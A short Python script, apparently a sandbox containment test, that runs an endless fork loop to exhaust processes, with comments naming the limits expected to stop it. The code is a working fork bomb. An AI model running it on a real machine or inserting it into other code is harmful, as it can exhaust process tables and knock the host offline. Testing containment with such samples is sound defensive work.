# Tries to start processes without end. Stopped by: the limit on processes, the PID namespace or the group of processes.
# Ends by: wall
import os, time
while True:
    try:
        if os.fork() == 0:
            time.sleep(60)
    except OSError:
        time.sleep(0.01)
